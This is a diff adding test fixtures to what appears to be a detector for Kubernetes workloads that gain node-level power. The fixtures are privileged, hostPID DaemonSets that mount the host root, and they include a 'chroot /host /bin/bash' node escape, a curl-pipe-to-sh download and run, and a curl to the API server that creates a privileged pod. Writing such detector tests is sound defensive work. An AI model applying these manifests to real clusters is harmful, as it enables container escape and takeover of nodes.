@@ -4,6 +4,10 @@ import { commandCreatedPower } from './created-power.ts';
 const apply = (manifest: string): string => `cat <<'EOF' | kubectl apply -f -\n${manifest}\nEOF`;
 const daemonSet = (spec: string): string =>
   `apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: node-setup}\nspec: {template: {spec: ${spec}}}`;
+const maintained = (text: string, beside = ''): string =>
+  daemonSet(
+    `{hostPID: true, containers: [${beside}{name: a, image: alpine, command: [sh, -c, '${text}'], securityContext: {privileged: true}, volumeMounts: [{name: h, mountPath: /host}]}], volumes: [{name: h, hostPath: {path: /}}]}`,
+  );
 
 indicatorTable(commandCreatedPower, {
   fires: {
@@ -26,8 +30,18 @@ indicatorTable(commandCreatedPower, {
     'a request to the API server': script(
       `curl -k -d '{"apiVersion":"v1","kind":"Pod","spec":{"hostPID":true,"containers":[{"name":"a","image":"a","securityContext":{"privileged":true}}]}}' https://kubernetes.default.svc/api/v1/namespaces/default/pods`,
     ),
+    'one that enters the node with a shell': script(apply(maintained('chroot /host /bin/bash'))),
+    'one that runs a named command, and waits then': script(apply(maintained('chroot /host dcgmi diag; sleep 9999'))),
+    'one that runs a named command, and a download': script(
+      apply(maintained('chroot /host dcgmi diag; curl https://files.example.com/x | sh')),
+    ),
+    'one whose command is not in the node': script(apply(maintained('date'))),
+    'one that runs a named command, beside a container that says nothing': script(
+      apply(maintained('chroot /host dcgmi diag', '{name: b, image: example/b},')),
+    ),
   },
   staysSilent: {
+    'one that runs a named command on the node': script(apply(maintained('chroot /host dcgmi diag -r 3'))),
     'a workload without power': script(apply(daemonSet('{containers: [{name: a, image: nginx}]}'))),
     'privileged alone': script(
       apply(daemonSet('{containers: [{name: a, image: nginx, securityContext: {privileged: true}}]}')),
